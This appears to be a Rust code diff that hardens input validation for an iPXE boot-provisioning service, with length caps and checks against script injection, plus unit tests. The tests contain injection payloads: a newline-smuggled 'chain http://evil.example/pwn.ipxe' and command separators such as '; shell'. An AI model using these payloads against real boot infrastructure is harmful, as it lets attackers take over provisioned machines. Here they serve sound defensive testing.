@@ -4,7 +4,8 @@
 
 use serde::Deserialize;
 
-use crate::mac::Mac;
+use crate::boot::script_value::{check_script_json, check_script_value};
+use crate::mac::{Mac, NOT_A_STATION_MAC};
 use crate::store::{MachineSpec, MachineState, Profile, Variables};
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -46,9 +47,17 @@ impl MachineInput {
     /// second step ([`MachineInput::profile_name`]).
     pub fn validate(&self) -> Result<(Mac, MachineSpec), Vec<FieldError>> {
         let mut errors = Vec::new();
-        let mac = Mac::parse(&self.mac)
-            .map_err(|e| errors.push(FieldError::new("mac", e.to_string())))
-            .ok();
+        let mac = match Mac::parse(&self.mac) {
+            Ok(mac) if mac.is_station() => Some(mac),
+            Ok(_) => {
+                errors.push(FieldError::new("mac", NOT_A_STATION_MAC));
+                None
+            }
+            Err(e) => {
+                errors.push(FieldError::new("mac", e.to_string()));
+                None
+            }
+        };
         let hostname = self.hostname.trim().to_ascii_lowercase();
         if let Err(m) = check_hostname(&hostname) {
             errors.push(FieldError::new("hostname", m));
@@ -104,8 +113,39 @@ impl MachineInput {
     }
 }
 
-/// Variables arrive as a JSON object, or (from forms) as a string holding one.
+/// Longest kernel or initrd path or URL.
+pub const MAX_PATH_CHARS: usize = 1024;
+/// Longest kernel command line template (Linux itself takes 2 048 bytes on x86 after
+/// rendering; the template may be longer before).
+pub const MAX_CMDLINE_CHARS: usize = 4096;
+pub const MAX_DESCRIPTION_CHARS: usize = 1024;
+/// Largest variables object, as JSON text.
+pub const MAX_VARIABLES_BYTES: usize = 16 * 1024;
+
+/// A value that goes into boot scripts: bounded, and unable to add a line or a command.
+fn check_script_field(value: &str, max_chars: usize) -> Result<(), String> {
+    if value.chars().count() > max_chars {
+        return Err(format!("at most {max_chars} characters"));
+    }
+    check_script_value(value).map_err(|why| why.to_string())
+}
+
+/// Variables arrive as a JSON object, or (from forms) as a string holding one. They are
+/// printed into boot scripts, so every string in them must be safe there.
 pub fn parse_variables(v: Option<&serde_json::Value>) -> Result<Variables, String> {
+    let vars = parse_variables_object(v)?;
+    let size = serde_json::to_string(&vars).map(|t| t.len()).unwrap_or(0);
+    if size > MAX_VARIABLES_BYTES {
+        return Err(format!(
+            "at most {MAX_VARIABLES_BYTES} bytes of JSON (this is {size})"
+        ));
+    }
+    check_script_json(&serde_json::Value::Object(vars.clone()))
+        .map_err(|why| format!("every key and value {why}"))?;
+    Ok(vars)
+}
+
+fn parse_variables_object(v: Option<&serde_json::Value>) -> Result<Variables, String> {
     match v {
         None | Some(serde_json::Value::Null) => Ok(Variables::new()),
         Some(serde_json::Value::Object(m)) => Ok(m.clone()),
@@ -191,14 +231,20 @@ impl ProfileInput {
                 "a file name in the boot scripts directory, e.g. install.ipxe",
             ));
         }
-        for (field, value) in [
-            ("kernel", &self.kernel),
-            ("initrd", &self.initrd),
-            ("cmdline", &self.cmdline),
+        for (field, value, max) in [
+            ("kernel", &self.kernel, MAX_PATH_CHARS),
+            ("initrd", &self.initrd, MAX_PATH_CHARS),
+            ("cmdline", &self.cmdline, MAX_CMDLINE_CHARS),
         ] {
-            if value.contains('\n') || value.contains('\r') {
-                errors.push(FieldError::new(field, "must be a single line"));
+            if let Err(m) = check_script_field(value, max) {
+                errors.push(FieldError::new(field, m));
             }
+        }
+        if self.description.chars().count() > MAX_DESCRIPTION_CHARS {
+            errors.push(FieldError::new(
+                "description",
+                format!("at most {MAX_DESCRIPTION_CHARS} characters"),
+            ));
         }
         let variables = match parse_variables(self.variables.as_ref()) {
             Ok(v) => v,
@@ -258,6 +304,80 @@ mod tests {
         assert_eq!(spec.hostname, "node1.lab");
         assert_eq!(spec.profile.as_deref(), Some("debian"));
         assert_eq!(spec.variables["a"], 1);
+    }
+
+    #[test]
+    fn values_that_would_inject_into_scripts_are_refused_naming_the_field() {
+        let bad_vars = MachineInput {
+            mac: "52:54:00:ab:cd:ef".into(),
+            variables: Some(serde_json::json!({
+                "disk": "/dev/sda\nchain http://evil.example/pwn.ipxe\n#"
+            })),
+            ..Default::default()
+        };
+        let errs = bad_vars.validate().unwrap_err();
+        assert_eq!(errs[0].field, "variables");
+        assert!(errs[0].message.contains("line breaks"), "{errs:?}");
+        for (field, p) in [
+            (
+                "cmdline",
+                ProfileInput {
+                    name: "p".into(),
+                    cmdline: "quiet ; shell".into(),
+                    ..Default::default()
+                },
+            ),
+            (
+                "kernel",
+                ProfileInput {
+                    name: "p".into(),
+                    kernel: "linux || shell".into(),
+                    ..Default::default()
+                },
+            ),
+            (
+                "initrd",
+                ProfileInput {
+                    name: "p".into(),
+                    initrd: "initrd\rx".into(),
+                    ..Default::default()
+                },
+            ),
+            (
+                "variables",
+                ProfileInput {
+                    name: "p".into(),
+                    variables: Some(serde_json::json!({"a #b": "c"})),
+                    ..Default::default()
+                },
+            ),
+        ] {
+            let errs = p.validate().unwrap_err();
+            assert_eq!(errs[0].field, field, "{errs:?}");
+        }
+    }
+
+    #[test]
+    fn fields_are_capped() {
+        let huge = serde_json::json!({ "blob": "x".repeat(MAX_VARIABLES_BYTES) });
+        let m = MachineInput {
+            mac: "52:54:00:ab:cd:ef".into(),
+            variables: Some(huge),
+            ..Default::default()
+        };
+        assert_eq!(m.validate().unwrap_err()[0].field, "variables");
+        let p = ProfileInput {
+            name: "p".into(),
+            cmdline: "a".repeat(MAX_CMDLINE_CHARS + 1),
+            ..Default::default()
+        };
+        assert_eq!(p.validate().unwrap_err()[0].field, "cmdline");
+        let p = ProfileInput {
+            name: "p".into(),
+            description: "d".repeat(MAX_DESCRIPTION_CHARS + 1),
+            ..Default::default()
+        };
+        assert_eq!(p.validate().unwrap_err()[0].field, "description");
     }
 
     #[test]
